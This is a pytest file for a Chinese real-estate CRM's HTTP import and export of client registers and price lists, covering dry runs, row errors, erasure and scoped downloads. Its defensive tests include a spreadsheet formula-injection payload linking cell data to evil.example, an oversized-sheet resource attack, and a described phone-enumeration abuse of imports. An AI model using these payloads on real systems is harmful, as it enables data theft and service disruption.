"""Excel in, Excel out over HTTP: a client register and a 一房一价表 imported from xlsx
and CSV (dry run, re-run, bad rows), and every list downloaded as CSV or xlsx, scoped."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.http.conftest import ADMIN_KEY, Api, make_api
from yingke.cli import main
from yingke.sheets.commands import VIEW_NAMES
from yingke.sheets.reading import XLSX

HEADERS = ["姓名", "联系电话", "来源", "渠道公司", "经纪人", "置业顾问", "意向等级", "到访日期"]
HEADERS += ["最近跟进", "跟进记录", "预算", "意向户型", "面积", "备注"]


@pytest.fixture
def api(tmp_path: Path) -> Iterator[Api]:
    yield from make_api(tmp_path, {"YINGKE_FOLLOW_INTERVAL": "0.05", "YINGKE_READ_WAIT": "2.0"})


def xlsx(rows: list[list[Any]], title: str | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    if title:
        sheet.append([title])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def register(c1: str, c2: str) -> list[list[Any]]:
    return [
        HEADERS,
        [
            *("张三", "138 1111 0001", "渠道", "lianjia", "李四", c1, "A类", "2024/3/5"),
            *("2024年3月9日", "约周末看房", "235万", "三室两厅", "89.5㎡", "老客户介绍"),
        ],
        [
            *("王五", "+86 139-1111-0002", "自然到访", None, None, c1, "B", 45356),
            *(None, None, "2,350,000", "3室2厅", 89.5, None),
        ],
        [
            *("赵六", "13711110003", None, None, None, c2, "C类", "2024-02-01"),
            *("2024-02-03", None, None, None, None, None),
        ],
    ]


def post(api: Api, path: str, headers: dict[str, str], body: bytes, kind: str) -> Any:
    return api.client.post(path, content=body, headers={**headers, "Content-Type": kind})


def after(response: Any) -> dict[str, str]:
    return {"after": response.headers["Yingke-Position"]}


def setup_office(api: Api) -> tuple[dict[str, str], str, dict[str, str], str, dict[str, str]]:
    _, manager = api.principal("manager", [api.project])
    c1, c1_keys = api.principal("consultant", [api.project])
    c2, c2_keys = api.principal("consultant", [api.project])
    return manager, c1, c1_keys, c2, c2_keys


def test_a_register_in_xlsx_imports_once_and_a_rerun_changes_nothing(api: Api) -> None:
    manager, c1, c1_keys, c2, _ = setup_office(api)
    path = f"/v1/projects/{api.project}/clients:import"
    body = xlsx(register(c1, c2), title="XX项目客户台账")

    first = post(api, path, manager, body, XLSX)
    assert first.status_code == 200, first.text
    assert (first.json()["new"], first.json()["unchanged"]) == (3, 0)
    assert [r["row"] for r in first.json()["results"]] == ["第3行", "第4行", "第5行"]

    again = post(api, path, manager, body, XLSX)
    assert again.status_code == 200, again.text
    assert (again.json()["new"], again.json()["unchanged"]) == (0, 3)
    assert "Yingke-Position" not in again.headers

    listed = api.client.get(
        "/v1/clients", params={**after(first), "project_id": api.project}, headers=manager
    )
    items = {i["phone_masked"]: i for i in listed.json()["items"]}
    zhang = items["138****0001"]
    assert (zhang["consultant_id"], zhang["basis"], zhang["grade"]) == (c1, "migration", "A")
    assert zhang["partner_id"] == "lianjia"
    assert zhang["owned_since"].startswith("2024-03-04T16:00:00")  # 2024/3/5 China time
    assert zhang["last_follow_up_at"].startswith("2024-03-08T16:00:00")
    assert zhang["protected_until"] > api.clock().isoformat()  # protection from the import
    assert items["139****0002"]["owned_since"].startswith("2024-03-04T16:00:00")  # serial 45356

    client_id = zhang["client_id"]
    history = api.client.get(f"/v1/clients/{client_id}/history", headers=manager).json()
    kinds = [e["type"] for e in history["events"]]
    assert "ClientMigrated" in " ".join(kinds) and "OwnershipMigrated" in " ".join(kinds)
    assert "13811110001" not in str(history) and "张三" not in str(history)

    mine = api.client.get("/v1/clients", params=after(first), headers=c1_keys).json()["items"]
    assert {i["consultant_id"] for i in mine} == {c1} and len(mine) == 2


def test_a_bad_row_imports_nothing_and_names_the_row_and_the_column(api: Api) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    rows = register(c1, c2)
    rows[2][1] = "139111"  # sheet row 3 (the header is row 1)
    rows[3][7] = "2024年13月1日"
    response = post(api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(rows), XLSX)
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    fields = {e["field"]: e["code"] for e in response.json()["errors"]}
    assert fields == {"第3行: 联系电话": "invalid_phone", "第4行: 到访日期": "invalid_value"}
    listed = api.client.get("/v1/clients", params={"project_id": api.project}, headers=manager)
    assert listed.json()["items"] == []


def test_duplicates_in_the_file_and_existing_buyers_are_reported_not_merged(api: Api) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    path = f"/v1/projects/{api.project}/clients:import"
    rows = register(c1, c2)
    rows.append(["张三丰", "13811110001", None, None, None, c2, *([None] * 8)])
    response = post(api, path, manager, xlsx(rows), XLSX)
    assert response.status_code == 422
    assert response.json()["errors"] == [
        {
            "field": "第5行: 联系电话",
            "message": "repeats the buyer of 第2行",
            "code": "duplicate_in_file",
        }
    ]

    visit = {"project_id": api.project, "phone": "13711110003", "consultant_id": c2}
    visited = api.client.post("/v1/visits", json={**visit, "client_name": "赵六"}, headers=manager)
    assert visited.status_code == 201, visited.text
    response = post(api, path, manager, xlsx(register(c1, c2)), XLSX)
    assert response.status_code == 422
    (error,) = response.json()["errors"]
    assert (error["field"], error["code"]) == ("第4行: 联系电话", "duplicate_client")


def test_a_dry_run_of_a_gb18030_csv_reports_every_row_and_writes_nothing(api: Api) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    rows = register(c1, c2)
    rows[3][6] = "D类"
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    body = text.getvalue().encode("gb18030")
    path = f"/v1/projects/{api.project}/clients:import"
    response = api.client.post(
        path,
        params={"dry_run": "true"},
        content=body,
        headers={**manager, "Content-Type": "text/csv"},
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["dry_run"], report["new"], report["invalid"]) == (True, 2, 1)
    assert report["results"][2]["status"] == "invalid"
    assert "grade" in report["results"][2]["message"]
    assert "Yingke-Position" not in response.headers
    listed = api.client.get("/v1/clients", params={"project_id": api.project}, headers=manager)
    assert listed.json()["items"] == []


def test_a_multipart_upload_with_a_mapping_turns_names_into_ids(api: Api) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    rows = [["客户", "手机号码", "负责人", "渠道公司"], ["张三", "13811110001", "王顾问", "链家"]]
    mapping = json.dumps(
        {
            "columns": {"负责人": "consultant"},
            "consultants": {"王顾问": c1},
            "partners": {"链家": "lianjia"},
        }
    )
    response = api.client.post(
        f"/v1/projects/{api.project}/clients:import",
        files={"file": ("客户.xlsx", xlsx(rows), XLSX)},
        data={"mapping": mapping},
        headers=manager,
    )
    assert response.status_code == 200, response.text
    assert response.json()["new"] == 1
    unmapped = api.client.post(
        f"/v1/projects/{api.project}/clients:import",
        files={"file": ("客户.xlsx", xlsx([rows[0], ["李四", "13811110002", "刘顾问", None]]))},
        data={"mapping": '{"负责人": "consultant"}'},
        headers=manager,
    )
    assert unmapped.status_code == 422
    assert unmapped.json()["errors"][0]["field"] == "第2行: 负责人"
    assert c2  # the second consultant exists but owns nothing here


def test_a_price_list_in_xlsx_imports_units_and_a_consultant_cannot_import(api: Api) -> None:
    manager, _, c1_keys, _, _ = setup_office(api)
    rows: list[list[Any]] = [
        ["楼栋", "单元", "房号", "户型", "建筑面积(㎡)", "楼层", "朝向", "总价(元)", "单价"],
        ["3栋", "1单元", 1201, "三室两厅", "89.5㎡", "12层", "南北通透", "2,350,000", None],
        ["3栋", "1单元", 1202, "两室一厅", 76.02, None, "东南", "235万", None],
        ["3栋", "2单元", 1201, "3室2厅1卫", 89.5, 12, "南", None, "26,000"],
    ]
    path = f"/v1/projects/{api.project}/units:import"
    response = post(api, path, manager, xlsx(rows, title="XX项目一房一价表"), XLSX)
    assert response.status_code == 200, response.text
    assert response.json()["listed"] == 3
    again = post(api, path, manager, xlsx(rows, title="XX项目一房一价表"), XLSX)
    assert again.json()["unchanged"] == 3
    units = api.client.get(
        f"/v1/projects/{api.project}/units", params=after(response), headers=manager
    ).json()["items"]
    by_number = {u["number"]: u for u in units}
    assert by_number["1-1202"]["floor"] == 12 and by_number["1-1202"]["rooms"] == 2
    assert by_number["1-1201"]["orientation"] == "north_south"
    assert by_number["2-1201"]["list_price_fen"] == 232_700_000  # 26,000 × 89.5
    bad: list[list[Any]] = [
        rows[0],
        ["3栋", "1单元", 1301, "三室", "89.5㎡", 13, "朝阳", "235万", None],
    ]
    refused = post(api, path, manager, xlsx(bad), XLSX)
    assert refused.status_code == 422
    assert refused.json()["errors"][0]["field"] == "第2行: 朝向"
    assert post(api, path, c1_keys, xlsx(rows), XLSX).status_code == 403


def test_every_list_downloads_as_csv_and_xlsx_scoped_like_its_json(api: Api) -> None:
    manager, c1, c1_keys, c2, _ = setup_office(api)
    imported = post(
        api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(register(c1, c2)), XLSX
    )
    assert imported.status_code == 200, imported.text
    params = after(imported)

    as_csv = api.client.get(
        "/v1/clients", params={**params, "headers": "zh"}, headers={**c1_keys, "Accept": "text/csv"}
    )
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    lines = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert len(lines) == 2 and {r["置业顾问"] for r in lines} == {c1}

    as_xlsx = api.client.get(
        "/v1/clients", params={**params, "limit": 1}, headers={**manager, "Accept": XLSX}
    )
    assert as_xlsx.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content), read_only=True).worksheets[0]
    table = list(sheet.iter_rows(values_only=True))
    assert table[0][0] == "client_id" and len(table) == 4  # no page limit in a download

    for path in (
        "/v1/reports",
        "/v1/tasks",
        "/v1/deals",
        "/v1/views/funnel",
        "/v1/views/channels",
        "/v1/views/consultants",
        "/v1/views/protection-board",
        "/v1/views/lost-reasons",
        "/v1/views/pool",
        "/v1/views/deal-pipeline",
        "/v1/views/payments",
        "/v1/views/commissions",
        "/v1/views/commissions/entries",
        "/v1/views/signing-forecast",
        f"/v1/projects/{api.project}/units",
    ):
        for accept in ("text/csv", XLSX):
            response = api.client.get(path, params=params, headers={**manager, "Accept": accept})
            assert response.status_code == 200, (path, response.text)
            assert response.headers["content-type"].startswith(accept), path
    tasks = api.client.get("/v1/tasks", params={**params, "format": "csv"}, headers=c1_keys)
    assert len(list(csv.DictReader(io.StringIO(tasks.content.decode("utf-8-sig"))))) == 2


def test_a_register_with_merged_consultants_imports_each_buyer_to_the_merged_owner(
    api: Api,
) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["XX项目客户台账"])
    sheet.merge_cells("A1:D1")
    sheet.append(["姓名", "手机", "置业顾问", "到访日期"])
    sheet.append(["甲", "13600000001", c1, "2024/1/1"])
    sheet.append(["乙", "13600000002", None, "2024/1/2"])
    sheet.append(["丙", "13600000003", None, "2024/1/3"])
    sheet.append(["丁", "13600000004", c2, "2024/1/4"])
    sheet.merge_cells("C3:C5")  # the office groups buyers under their consultant
    body = io.BytesIO()
    book.save(body)
    response = post(
        api, f"/v1/projects/{api.project}/clients:import", manager, body.getvalue(), XLSX
    )
    assert response.status_code == 200, response.text
    listed = api.client.get(
        "/v1/clients", params={**after(response), "project_id": api.project}, headers=manager
    ).json()["items"]
    owners = {i["phone_masked"]: i["consultant_id"] for i in listed}
    assert owners == {
        "136****0001": c1,
        "136****0002": c1,
        "136****0003": c1,
        "136****0004": c2,
    }


def test_a_hostile_sheet_is_refused_with_a_problem_and_the_service_keeps_serving(
    api: Api,
) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    path = f"/v1/projects/{api.project}/clients:import"
    stray = openpyxl.Workbook()
    sheet = stray.active
    assert sheet is not None
    sheet.append(["姓名", "手机"])
    sheet.append(["甲", "13600000001"])
    sheet["XFD1048576"] = "x"  # a few KB that the reader would size at 512 GB
    body = io.BytesIO()
    stray.save(body)
    refused = post(api, path, manager, body.getvalue(), XLSX)
    assert refused.status_code == 422, refused.text
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert "XFD1048576" in refused.json()["errors"][0]["message"]

    long_cell = "姓名,手机\n甲,13600000001\n" + "x" * 200_000 + ",13600000002\n"
    refused = post(api, path, manager, long_cell.encode(), "text/csv")
    assert refused.status_code == 422, refused.text
    assert "第3行" in refused.json()["errors"][0]["message"]

    fine = post(api, path, manager, xlsx(register(c1, c2)), XLSX)
    assert fine.status_code == 200, fine.text


def test_exports_hand_excel_text_where_a_cell_looks_like_a_formula(api: Api) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    evil = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
    renamed = api.client.patch(
        f"/v1/principals/{c1}", json={"display_name": evil}, headers=api.admin
    )
    assert renamed.status_code == 200, renamed.text
    imported = post(
        api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(register(c1, c2)), XLSX
    )
    assert imported.status_code == 200, imported.text
    params = {**after(imported), "project_id": api.project, "headers": "zh"}

    as_csv = api.client.get("/v1/clients", params={**params, "format": "csv"}, headers=manager)
    lines = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    names = {r["顾问姓名"] for r in lines}
    assert f"'{evil}" in names and evil not in names

    as_xlsx = api.client.get("/v1/clients", params={**params, "format": "xlsx"}, headers=manager)
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).worksheets[0]
    column = [c.value for c in sheet[1]].index("顾问姓名")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert any(c.value == evil for c in cells)
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula


def test_chinese_headers_name_every_column_of_the_lists(api: Api) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    imported = post(
        api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(register(c1, c2)), XLSX
    )
    assert imported.status_code == 200, imported.text
    price_list = [["楼栋", "房号", "户型", "建筑面积", "楼层", "朝向", "总价"]]
    price_list.append(["3栋", "1201", "三室", "89.5", "12", "南", "235万"])
    units = post(api, f"/v1/projects/{api.project}/units:import", manager, xlsx(price_list), XLSX)
    assert units.status_code == 200, units.text
    params = {**after(units), "project_id": api.project, "format": "csv", "headers": "zh"}
    for path in (
        "/v1/clients",
        "/v1/reports",
        "/v1/tasks",
        "/v1/rule-tasks",
        "/v1/deals",
        "/v1/views/consultants",
        "/v1/views/commissions/entries",
        f"/v1/projects/{api.project}/units",
    ):
        response = api.client.get(path, params=params, headers=manager)
        assert response.status_code == 200, (path, response.text)
        header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert header, path
        english = [h for h in header if not any("\u4e00" <= ch <= "\u9fff" for ch in h)]
        assert english == [], path


def test_the_staff_directory_downloads_scoped_like_its_json(api: Api) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    elsewhere = "c-elsewhere"
    last = api.client.post(
        "/v1/principals",
        json={"id": elsewhere, "role": "consultant", "project_ids": ["another-project"]},
        headers=api.admin,
    )
    assert last.status_code == 201, last.text
    params = {**after(last), "format": "csv", "headers": "zh", "limit": 1}
    response = api.client.get("/v1/principals", params=params, headers=manager)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    lines = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    ids = {line["员工ID"] for line in lines}
    assert {c1, c2} <= ids and elsewhere not in ids  # every page, the manager's projects only
    as_json = api.client.get(
        "/v1/principals", params={**after(last), "limit": 500}, headers=manager
    ).json()
    assert ids == {item["id"] for item in as_json["items"]}
    as_xlsx = api.client.get("/v1/principals", headers={**manager, "Accept": XLSX})
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content), read_only=True).worksheets[0]
    assert len(list(sheet.iter_rows(values_only=True))) == len(ids) + 1

    # A personal webhook's URL carries its key: the admin reads it in JSON, but it is
    # never written into a file.
    hook = "https://hooks.example.com/yk?key=secret-in-url"
    changed = api.client.patch(
        f"/v1/principals/{c1}", json={"notify_webhook": hook}, headers=api.admin
    )
    assert changed.status_code == 200, changed.text
    shown = api.client.get("/v1/principals", params=after(changed), headers=api.admin).json()
    assert hook in {item["notify_webhook"] for item in shown["items"]}
    for accept in ("text/csv", XLSX):
        exported = api.client.get("/v1/principals", headers={**api.admin, "Accept": accept})
        assert exported.status_code == 200 and b"secret-in-url" not in exported.content


def test_the_cli_exports_every_view_it_names(
    api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    manager, c1, _, c2, _ = setup_office(api)
    imported = post(
        api, f"/v1/projects/{api.project}/clients:import", manager, xlsx(register(c1, c2)), XLSX
    )
    assert imported.status_code == 200, imported.text
    seen = api.client.get("/v1/clients", params=after(imported), headers=manager)
    assert len(seen.json()["items"]) == 3  # the views hold the import
    for name, value in {
        "YINGKE_DATA_DIR": str(tmp_path),
        "YINGKE_SECRET": "test-secret-0123456789abcdef",
        "YINGKE_ADMIN_KEY": ADMIN_KEY,
    }.items():
        monkeypatch.setenv(name, value)
    views = VIEW_NAMES.split(", ")
    assert {"signing-forecast", "conversion", "staff"} <= set(views)
    out = tmp_path / "out"
    out.mkdir()
    for view in views:
        target = out / f"{view}.csv"
        argv = ["export", view, "-f", "csv", "-o", str(target), "--project", api.project]
        assert main([*argv, "--headers", "zh"]) == 0, view
        assert target.read_bytes().startswith(b"\xef\xbb\xbf"), view
    clients = list(csv.DictReader(io.StringIO((out / "clients.csv").read_text("utf-8-sig"))))
    assert len(clients) == 3
    staff = list(csv.DictReader(io.StringIO((out / "staff.csv").read_text("utf-8-sig"))))
    assert {c1, c2} <= {row["员工ID"] for row in staff}


# ---------------------------------------------------------------- the import as a lookup
# The attack (issue 10 follow-up): a manager's 3,002-row dry run answered every live
# buyer as "already a buyer … (186****8415)", and an erased one too, with nothing counted
# and nothing in lookup_audit: an unlimited, unrecorded phone lookup.


@pytest.fixture
def capped(tmp_path: Path) -> Iterator[Api]:
    yield from make_api(
        tmp_path,
        {
            "YINGKE_FOLLOW_INTERVAL": "0.05",
            "YINGKE_READ_WAIT": "2.0",
            "YINGKE_IMPORT_CLASHES_PER_DAY": "2",
        },
    )


def csv_register(phones: list[str], consultant: str, name: str = "客户") -> bytes:
    lines = ["姓名,手机,置业顾问"] + [f"{name}{n},{p},{consultant}" for n, p in enumerate(phones)]
    return ("\n".join(lines) + "\n").encode()


def audit(api: Api, column: str, value: str) -> list[tuple[str, str, bool, int | None]]:
    api.container.follower.catch_up()
    found = api.container.views.query(
        "SELECT via, outcome, client_id IS NOT NULL, rows FROM lookup_audit "
        f"WHERE {column} = ? ORDER BY looked_up_at, version",
        (value,),
    )
    return [(v, o, bool(c), r) for v, o, c, r in found]


def test_an_import_treats_an_erased_buyer_s_number_as_unknown(api: Api) -> None:
    manager, c1, _, _, _ = setup_office(api)
    path = f"/v1/projects/{api.project}/clients:import"
    migrated, visited, fresh = "15811119351", "15811118415", "15811110000"
    first = post(api, path, manager, csv_register([migrated], c1), "text/csv")
    assert first.status_code == 200, first.text
    walk_in = {"project_id": api.project, "phone": visited, "consultant_id": c1}
    came = api.client.post("/v1/visits", json={**walk_in, "client_name": "钱七"}, headers=manager)
    assert came.status_code == 201, came.text
    ids = [first.json()["results"][0]["client_id"], came.json()["client_id"]]
    for client_id in ids:
        erased = api.client.post(f"/v1/clients/{client_id}/erasure", headers=api.admin)
        assert erased.status_code == 200, erased.text

    # The same rows as before the erasure, and a number never seen: all alike.
    body = csv_register([migrated, visited, fresh], c1)
    checked = post(api, f"{path}?dry_run=true", manager, body, "text/csv")

    assert checked.status_code == 200, checked.text
    results = checked.json()["results"]
    assert [(r["status"], r["message"], r["client_id"]) for r in results] == [
        ("new", None, None)
    ] * 3
    for shown in ("158****9351", "158****8415", "already"):
        assert shown not in checked.text

    done = post(api, path, manager, body, "text/csv")
    assert done.status_code == 200, done.text
    assert done.json()["new"] == 3
    rerun = post(api, path, manager, body, "text/csv")
    assert rerun.status_code == 200, rerun.text
    assert rerun.json()["unchanged"] == 3


def test_an_erased_buyer_brought_back_by_an_import_is_a_buyer_again(api: Api) -> None:
    """The attack (issue 10 review): erase a buyer, import the number again. The buyer
    came back half-erased: no name, ``[erased]`` districts, ``personal_data_erased``
    (telling the importer the buyer was here), and a second erasure destroyed nothing,
    recorded nothing and kept the row's fingerprint (a re-import answered ``unchanged``)."""
    manager, c1, c1_keys, _, _ = setup_office(api)
    path = f"/v1/projects/{api.project}/clients:import"
    phone = "15811117777"
    walk_in = {"project_id": api.project, "phone": phone, "consultant_id": c1}
    came = api.client.post("/v1/visits", json={**walk_in, "client_name": "钱七"}, headers=manager)
    assert came.status_code == 201, came.text
    client_id = came.json()["client_id"]
    profile = f"/v1/clients/{client_id}/profile"
    old = api.client.put(profile, json={"districts": ["旧区域"]}, headers=c1_keys)
    assert old.status_code < 300, old.text
    erased = api.client.post(f"/v1/clients/{client_id}/erasure", headers=api.admin)
    assert erased.status_code == 200, erased.text

    body = csv_register([phone], c1, name="孙八")
    back = post(api, path, manager, body, "text/csv")
    assert back.status_code == 200, back.text
    assert back.json()["new"] == 1
    new = api.client.put(profile, json={"districts": ["新区域"]}, headers=c1_keys)
    assert new.status_code < 300, new.text

    summary = api.client.get(f"/v1/clients/{client_id}", headers=manager)
    assert summary.status_code == 200, summary.text
    assert summary.json()["personal_data_erased"] is False
    assert summary.json()["profile"]["districts"] == ["新区域"]
    client = api.container.clients.client(uuid.UUID(client_id))
    assert api.container.clients.buyer_name(client) == "孙八0"
    # The number opens again too: it came back sealed under the fresh key.
    contact = api.client.get(f"/v1/clients/{client_id}/contact", headers=c1_keys)
    assert contact.status_code == 200, contact.text
    assert (contact.json()["phone"], contact.json()["name"]) == (phone, "孙八0")
    history = api.client.get(f"/v1/clients/{client_id}/history", headers=manager)
    assert history.status_code == 200, history.text
    events = history.json()["events"]
    assert "钱七" not in history.text and "旧区域" not in history.text
    profiles = [e["data"]["profile"] for e in events if e["type"] == "ProfileUpdated"]
    assert [p["districts"] for p in profiles] == ["[erased]", ["新区域"]]
    visit = next(e for e in events if e["type"] == "ClientVisited")
    assert visit["data"]["personal_data"] == "erased"
    assert visit["data"].get("phone_masked") in (None, "***********")

    again = api.client.post(f"/v1/clients/{client_id}/erasure", headers=api.admin)
    assert again.status_code == 200, again.text
    kinds = [type(e).__name__ for e in api.container.clients.uow.events(uuid.UUID(client_id))]
    assert kinds.count("PersonalDataErased") == 2
    client = api.container.clients.client(uuid.UUID(client_id))
    assert client.erased and client.migration_fingerprint is None
    assert api.container.clients.buyer_name(client) is None
    gone = api.client.get(f"/v1/clients/{client_id}", headers=manager)
    assert gone.json()["personal_data_erased"] is True
    assert "新区域" not in gone.text and "孙八" not in gone.text
    rerun = post(api, f"{path}?dry_run=true", manager, body, "text/csv")
    assert rerun.status_code == 200, rerun.text
    assert [r["status"] for r in rerun.json()["results"]] == ["new"]


def test_an_import_counts_and_records_every_buyer_it_finds_already_here(capped: Api) -> None:
    api = capped
    manager_id, manager = api.principal("manager", [api.project])
    c1, _ = api.principal("consultant", [api.project])
    path = f"/v1/projects/{api.project}/clients:import"
    book = ["13911110001", "13911110002", "13911110003"]
    # The admin's import (the migration path) is uncapped: three buyers.
    seeded = post(api, path, api.admin, csv_register(book, c1), "text/csv")
    assert seeded.status_code == 200, seeded.text
    # Another register of the same buyers: the admin learns of three clashes, uncapped.
    other = csv_register(book, c1, name="旧客")
    again = post(api, f"{path}?dry_run=true", api.admin, other, "text/csv")
    assert again.status_code == 200 and again.json()["invalid"] == 3

    probe = csv_register([*book[:1], "13911119999"], c1, name="旧客")
    one = post(api, f"{path}?dry_run=true", manager, probe, "text/csv")
    assert one.status_code == 200, one.text
    assert [r["status"] for r in one.json()["results"]] == ["invalid", "new"]
    assert one.json()["results"][0]["message"].startswith("is already a buyer")
    # One found, one left today: two more would pass the cap of two. The whole run is
    # refused, naming no row, and the day's allowance is spent.
    two = post(api, f"{path}?dry_run=true", manager, csv_register(book[1:], c1, "旧客"), "text/csv")
    assert two.status_code == 429, two.text
    assert two.json()["code"] == "import_limit"
    assert 0 < int(two.headers["Retry-After"]) <= 86400
    for phone in book:
        assert phone[-4:] not in two.text
    nothing = post(api, path, manager, csv_register(["13911118888"], c1), "text/csv")
    assert nothing.status_code == 429, nothing.text

    assert audit(api, "principal_id", manager_id) == [
        ("import", "checked", False, 2),
        ("import", "found", True, None),
        ("import", "limited", False, 2),
        ("import", "limited", False, 1),
    ]
    admin_rows = audit(api, "role", "admin")
    assert admin_rows.count(("import", "found", True, None)) == 3
    assert [r for r in admin_rows if r[1] == "checked"] == [
        ("import", "checked", False, 3),
        ("import", "checked", False, 3),
    ]
    api.clock.advance(hours=24)
    assert (
        post(api, path, manager, csv_register(["13911118888"], c1), "text/csv").status_code == 200
    )
